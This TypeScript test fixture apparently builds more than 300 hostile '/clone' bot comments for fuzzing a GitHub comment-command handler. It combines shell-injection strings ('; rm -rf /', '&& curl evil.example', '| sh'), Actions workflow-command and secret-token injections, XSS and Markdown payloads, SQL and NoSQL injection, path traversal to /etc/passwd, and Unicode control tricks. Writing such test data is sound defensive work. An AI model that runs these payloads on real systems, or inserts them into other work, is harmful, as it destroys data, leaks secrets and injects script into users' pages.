/**
 * Comments that are meant to do harm: to the shell, to expressions and commands of the workflow, to Markdown and HTML, to
 * people who are mentioned, to readers' eyes. Each hostile text stands at each place where a command takes one.
 */

const SHELL = [
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  '; rm -rf /',
  '&& curl evil.example',
  '| sh',
  '\\',
  '$IFS',
  '"; id; "',
  "'; id; '",
  '%0Aid',
];
const WORKFLOW = [
  '${{ secrets.GITHUB_TOKEN }}',
  '${{ github.token }}',
  '::set-output name=id::pwned',
  '::add-mask::a',
  '::stop-commands::x',
  '::error file=a::pwned',
  '##[add-mask]a',
  '##[error]pwned',
  '%0A::warning::pwned',
  'ghadelimiter_pwned',
];
const MARKDOWN = [
  '[click](https://evil.example)',
  '![x](https://evil.example/x.png)',
  'https://evil.example',
  'www.evil.example',
  'evil@evil.example',
  '<https://evil.example>',
  '[a]: https://evil.example',
  '**bold**',
  '| a | b |',
  '#1',
  'acme/understudy#1',
  'GH-1',
  '$\\ce{x}$',
  '- [ ] task',
  '> quote',
  '~~~',
  '````',
  '```mermaid',
  '&#64;olivia',
  '[^1]',
];
const HTML = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<!-- understudy:status bakomi -->',
  '-->',
  '<a href="javascript:alert(1)">x</a>',
  '</td></table>',
  '<svg/onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
];
const PEOPLE = [
  '@olivia',
  '@acme/admins',
  '@everyone',
  '＠olivia',
  '@github-actions[bot]',
  '<@U123>',
  '<!channel>',
];
const EYES = [
  '\u202Ed3\u202C',
  '\u2066x\u2069',
  '\u200Fabc',
  '\u0000',
  '\u001B[31mred',
  '\u0007',
  'ｒ６ｇ．ｌａｒｇｅ；ｒｍ　－ｒｆ　／',
  'е́́́́́́́',
  '\uD800',
  '\uFFFE',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
];
const DATA = [
  "' OR 1=1 --",
  '{"$ne":null}',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'NaN',
  '0x10',
  '1e9d',
  '-0d',
  '9'.repeat(40),
];

const TEXTS: readonly string[] = [...SHELL, ...WORKFLOW, ...MARKDOWN, ...HTML, ...PEOPLE, ...EYES, ...DATA];

const PLACES: readonly ((text: string) => string)[] = [
  (text) => `/clone ${text}`,
  (text) => `/clone r6g.large ${text}`,
  (text) => `/clone --source ${text}`,
  (text) => `/clone --${text}`,
  (text) => `/clone status ${text}`,
  (text) => `/clone --dry-run --note "${text}"`,
];

const SPECIALS: readonly string[] = [
  `/clone ${'A1.'.repeat(20_000)}`,
  `/clone ${'--x '.repeat(200)}`,
  `/clone ${'"'.repeat(199)}`,
  `/clone${' '.repeat(900)}x`,
  `/clone${'\n/clone'.repeat(5000)}`,
  `/clone \`\`\`${'`'.repeat(500)}`,
  `/clone ${'['.repeat(450)}${']'.repeat(450)}`,
  `/clone ${String.fromCharCode(...Array.from({ length: 256 }, (_, code) => code))}`,
  '/clone\u2028/clone delete',
  '/clone\u0085delete',
  '/clone\r/clone delete',
  '/clone delete\u00A0all',
];

/** More than 300 comments; all of them start with a command, so that none is passed over. */
export const HOSTILE_COMMENTS: readonly string[] = [
  ...PLACES.flatMap((place) => TEXTS.map(place)),
  ...SPECIALS,
];
